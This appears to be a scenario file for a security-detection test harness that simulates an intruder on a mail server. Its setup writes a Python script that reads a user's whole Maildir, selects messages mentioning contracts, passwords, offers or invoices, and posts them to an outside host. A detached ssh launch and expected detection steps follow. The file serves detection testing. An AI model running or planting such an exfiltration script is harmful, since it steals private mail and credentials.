# A program walks the Maildir and posts what it finds, detached from any terminal.
title="Python program walks the Maildir and posts messages, without a terminal"
what="A background program of dev, left behind by an intruder and started detached by a remote command, reads every message of ~/Maildir, puts those with certain words into one JSON body and posts it to
203.0.113.67 port 8080. No archive is written."
host=mx1.example.org user=dev daemons="cron sshd"

setup() {
  install -d -o dev -g dev /home/dev/.local /home/dev/.local/lib
  cat > /home/dev/.local/lib/indexer.py <<'P'
import json, pathlib, re, urllib.request
found = []
for path in pathlib.Path.home().glob("Maildir/*/*"):
    text = path.read_text(errors="replace")
    if re.search("contract|password|offer|invoice", text, re.I):
        found.append(text)
request = urllib.request.Request("http://vault.example.net:8080/api", json.dumps(found).encode(), {"Content-Type": "application/json"})
urllib.request.urlopen(request).read()
P
  chown -R dev: /home/dev/.local
}
act() {
  for subject in "Contract, second reading" "Your password was changed" "Offer 19" "Invoice 2231"; do mail_in --from office@example.net --to dev@example.org --subject "$subject"; done
  small_talk 4
  wait_mail dev 4
  ssh_run dev 'cd .local/lib && nohup setsid python3 indexer.py >/dev/null 2>&1 & sleep 3'
  ssh_as ops <<'L'
tail -3 /etc/passwd
L
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'mail lies in the Maildir of dev'
  exec_step start 'python3 indexer.py' 'the program starts'
  file_step read 'python3.* openat:read NORMAL /home/dev/Maildir/new/.+' 'it reads every message'
  net_step post 'python3.* 203.0.113.67:8080' 'and posts them'
}
